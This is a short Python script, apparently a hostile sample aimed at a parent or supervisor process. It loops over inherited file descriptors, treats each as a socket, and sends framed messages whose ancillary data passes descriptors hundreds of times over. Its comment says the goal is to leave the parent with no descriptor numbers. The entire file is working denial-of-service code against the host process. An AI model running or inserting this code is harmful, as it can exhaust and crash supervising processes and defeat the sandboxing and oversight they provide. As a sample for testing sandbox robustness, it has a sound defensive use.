# seeks: parent
# Descriptors are handed over with a frame, until the parent has no number left.
import array
import socket
import struct


def model(tg):
    header = b'{"message": "x"}'
    frame = struct.pack("!BIQ", 6, len(header), 0) + header
    for number in range(3, 64):
        try:
            link = socket.socket(fileno=number)
            for _ in range(200):
                link.sendmsg([frame], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [number] * 200))])
            link.detach()
        except OSError:
            pass
